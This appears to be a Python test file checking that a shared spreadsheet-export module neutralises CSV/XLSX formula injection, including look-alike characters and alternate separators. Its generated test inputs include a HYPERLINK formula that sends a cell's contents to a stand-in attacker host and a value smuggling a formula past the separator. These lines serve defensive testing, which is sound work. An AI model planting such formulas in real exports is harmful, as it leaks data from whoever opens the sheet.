"""The spreadsheet-safe writer: one policy, in two identical copies, proven on the same table.

Each app carries ``spreadsheet.py`` (neither may import the other); these tests fail
when the copies differ. The examples run on both copies; the generated properties run on
one, since the first test proves the other is the same file. The oracle below is written
independently of the module: what a spreadsheet could start running in a cell.
"""

import csv
import datetime
import decimal
import io
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from lead_forms import spreadsheet as lead_forms_spreadsheet
from treatment_pages import spreadsheet as treatment_pages_spreadsheet

ROOT = Path(__file__).resolve().parents[2]
COPIES = [lead_forms_spreadsheet, treatment_pages_spreadsheet]
# What the generated properties run on: test_the_two_copies_are_the_same_file proves the other
# copy is byte for byte the same (running them on both doubled the suite's costliest CPU work here).
COPY = lead_forms_spreadsheet
SKIPPED = {"Cc", "Cf", "Co", "Cn", "Cs", "Zs", "Zl", "Zp", "Mn", "Me"}


def spreadsheet_could_run(cell):
    """True when a cell read back starts, after what a spreadsheet may skip (and quotes), a formula."""
    rest = cell
    while rest and (rest[0] == '"' or rest[0].isspace() or unicodedata.category(rest[0]) in SKIPPED):
        rest = rest[1:]
    return unicodedata.normalize("NFKC", rest[:1])[:1] in {"=", "+", "-", "@"}


# Text people type, with every separator a spreadsheet may choose, quotes, line breaks,
# formula starts and their look-alikes, mixed freely.
pieces = st.sampled_from(
    [
        ",", ";", "\t", '"', "'", "\n", "\r\n", "\r", " ", "\u200b", "\u3000",
        "=", "+", "-", "@", "＝", "＋", "﹣", "＠",
        "1+2", "SUM(A1:A3)", 'HYPERLINK("http://evil.example/?"&A1;"Click")', "0123", "x", "Zoë",
    ]
)  # fmt: skip
cell_text = st.one_of(st.lists(pieces, max_size=8).map("".join), st.text(max_size=20))
rows = st.lists(st.lists(cell_text, min_size=1, max_size=4), min_size=1, max_size=4).filter(
    lambda table: len({len(row) for row in table}) == 1
)


def write_csv(module, table):
    writer = module.CsvRows()
    return module.BOM + "".join(writer.row(row) for row in table)


def read_csv(text, delimiter):
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=delimiter))


def test_the_two_copies_are_the_same_file():
    first = (ROOT / "lead_forms" / "spreadsheet.py").read_bytes()
    second = (ROOT / "treatment_pages" / "spreadsheet.py").read_bytes()
    assert first == second, "copy one spreadsheet.py over the other: the policy must be the same"


@hypothesis_settings(max_examples=300, deadline=None)
@given(table=rows)
def test_csv_read_with_its_separator_gives_the_same_cells_and_none_runs(table):
    read = read_csv(write_csv(COPY, table), ",")

    assert len(read) == len(table)
    for written, got in zip(table, read, strict=True):
        assert len(got) == len(written)  # no value is cut into cells of its own
        for value, cell in zip(written, got, strict=True):
            assert not spreadsheet_could_run(cell), (value, cell)
            # Nothing changed but the apostrophes put in front of what could run.
            assert cell.replace("'", "") == value.replace("'", "")


@pytest.mark.parametrize("delimiter", [";", "\t"], ids=["semicolon", "tab"])
@hypothesis_settings(max_examples=300, deadline=None)
@given(table=rows)
def test_csv_read_with_another_separator_never_gives_a_cell_that_runs(delimiter, table):
    for row in read_csv(write_csv(COPY, table), delimiter):
        for cell in row:
            assert not spreadsheet_could_run(cell), (table, row)


@pytest.mark.parametrize("module", COPIES, ids=lambda m: m.__name__)
def test_the_audits_separator_payload_stays_one_cell_and_text(module):
    text = write_csv(module, [["Zoë", "x;=1+2;y", 'a"b,c\nd']])

    assert read_csv(text, ",") == [["Zoë", "x;'=1+2;y", 'a"b,c\nd']]
    assert all(not spreadsheet_could_run(cell) for row in read_csv(text, ";") for cell in row)
    assert text == '\ufeff"Zoë","x;\'=1+2;y","a""b,c\nd"\r\n'  # every cell quoted


@pytest.mark.parametrize("module", COPIES, ids=lambda m: m.__name__)
def test_csv_keeps_numbers_the_code_wrote_and_text_as_typed(module):
    writer = module.CsvRows()
    line = writer.row([5, decimal.Decimal("4.5"), -1, "0123", "-1", None, datetime.date(2026, 3, 1)])

    assert line == '"5","4.5","-1","0123","\'-1","","2026-03-01"\r\n'


@hypothesis_settings(max_examples=200, deadline=None)
@given(values=st.lists(cell_text, min_size=1, max_size=6))
def test_xlsx_text_is_a_text_cell_holding_the_value(values):
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("Sheet")
    sheet.append([COPY.xlsx_cell(sheet, value) for value in values])
    buffer = io.BytesIO()
    workbook.save(buffer)

    cells = next(load_workbook(buffer).active.iter_rows())
    for value, cell in zip(values, cells, strict=False):
        stored = ILLEGAL_CHARACTERS_RE.sub("", value).replace("\r\n", "\n").replace("\r", "\n")
        if not stored:
            continue
        assert cell.data_type == "s" and cell.number_format == "@", (value, cell.data_type)
        assert cell.value == stored  # no apostrophe, no formula, no number


@pytest.mark.parametrize("module", COPIES, ids=lambda m: m.__name__)
def test_xlsx_keeps_leading_zeros_as_text_and_numbers_as_numbers(module):
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("Sheet")
    sheet.append(
        [module.xlsx_cell(sheet, value) for value in ("0123", "=1+2", 7, decimal.Decimal("4.5"), None)]
    )
    buffer = io.BytesIO()
    workbook.save(buffer)

    cells = next(load_workbook(buffer).active.iter_rows())
    assert [(cell.value, cell.data_type) for cell in cells[:4]] == [
        ("0123", "s"),
        ("=1+2", "s"),
        (7, "n"),
        (4.5, "n"),
    ]
